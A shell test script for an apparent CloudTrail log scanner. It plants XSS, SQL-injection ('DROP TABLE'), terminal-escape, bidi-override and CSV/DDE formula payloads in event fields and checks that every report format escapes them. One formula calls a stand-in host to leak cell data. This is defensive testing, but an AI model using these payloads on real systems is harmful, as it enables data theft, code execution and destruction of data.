#!/bin/sh
# XSS, CSV-formula, terminal-escape and SQL-injection payloads planted in
# userAgent, tableName and the principal come out harmless in every format.
. "$(dirname "$0")/../lib.sh"
python3 - "$T/evil.json" <<'PY'
import json, sys
ua = "<script>document.title='pwned'</script>\u001b]0;owned\u0007\u001b[2J kali"
table = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")'); DROP TABLE events;--"
principal = "arn:aws:iam::111122223333:user/<img src=x onerror=alert(1)>\u009b31m"
ev = {"eventVersion": "1.09", "eventTime": "2026-11-12T02:10:00Z", "eventSource": "dynamodb.amazonaws.com",
      "eventName": "Scan", "awsRegion": "eu-west-1", "sourceIPAddress": "185.220.101.47",
      "userAgent": ua, "eventID": "evil-'\"-1",
      "userIdentity": {"type": "IAMUser", "arn": principal, "accountId": "111122223333",
                       "accessKeyId": "AKIA@SUM(1+1)*cmd|' /C calc'!A0"},
      "requestParameters": {"tableName": table}, "readOnly": True}
# a table name that displays as another: a right-to-left override, zero-width space, DEL, ESC, C1
ev2 = dict(ev, eventID="evil-2", userIdentity={"type": "IAMUser", "accountId": "111122223333",
          "arn": "arn:aws:iam::111122223333:user/mallory", "accessKeyId": "AKIAMALLORY0000EXMPL"},
          requestParameters={"tableName": "users\u202eterces\u200b\u007f\u001b[1m\u0085x"})
json.dump({"Records": [ev, ev2]}, open(sys.argv[1], "w"))
PY
cfg=tests/detections/config.json
run scan -q --db "$T/e.db" "$T/evil.json" --config "$cfg"
eq "$rc" 0 "scan status"
eq "$(q "$T/e.db" "SELECT count(*) FROM sqlite_master WHERE name='events'")" 1 "events table intact"
eq "$(q "$T/e.db" "SELECT table_name FROM events WHERE event_id <> 'evil-2'")" \
   "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")'); DROP TABLE events;--" "value stored verbatim"
ok_if '[ "$(q "$T/e.db" "SELECT count(*) FROM alerts WHERE rule_id=\"DDB-SUSPICIOUS-AGENT\"")" = 2 ]' \
    "attack agent detected"
lacks "$T/out" "$(printf '\033')" "text: no ESC byte"
lacks "$T/out" "$(printf '\007')" "text: no BEL byte"
lacks "$T/out" "$(printf '\302\233')" "text: no C1 CSI"
contains "$T/out" '\\x1b\]0;owned' "text: escape shown as \\x1b"
contains "$T/out" 'users\\u202eterces\\u200b\\x7f\\x1b' "text: bidi override and zero-width space shown as \\uXXXX"
lacks "$T/out" "$(printf '\342\200\256')" "text: no raw U+202E"
run report --db "$T/e.db" --format html
lacks "$T/out" "<script" "html: no raw script tag"
lacks "$T/out" "<img" "html: no raw img tag"
contains "$T/out" "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;" "html: escaped text"
contains "$T/out" 'users\\u202eterces\\u200b' "html: bidi override and zero-width space visible"
lacks "$T/out" "$(printf '\342\200\256')" "html: no raw U+202E"
lacks "$T/out" "$(printf '\342\200\213')" "html: no raw U+200B"
run report --db "$T/e.db" --format csv
python3 - "$T/out" <<'PY' || fail "csv: a cell starts with a formula character"
import csv, sys
for row in csv.reader(open(sys.argv[1], newline="")):
    for cell in row:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
PY
contains "$T/out" "\"'=HYPERLINK" "csv: formula neutralised with a quote"
lacks "$T/out" "$(printf '\033')" "csv: no ESC byte"
lacks "$T/out" "$(printf '\177')" "csv: no DEL byte"
lacks "$T/out" "$(printf '\302\205')" "csv: no C1 byte"
lacks "$T/out" "$(printf '\342\200\256')" "csv: no raw U+202E"
contains "$T/out" 'users\\u202eterces\\u200b\\x7f\\x1b\[1m\\x85x' "csv: controls and invisible characters written out"
for f in json ocsf; do
    run report --db "$T/e.db" --format $f
    jq -e . "$T/out" >/dev/null || fail "$f: not valid JSON"
    lacks "$T/out" "$(printf '\033')" "$f: ESC escaped"
done
done_case
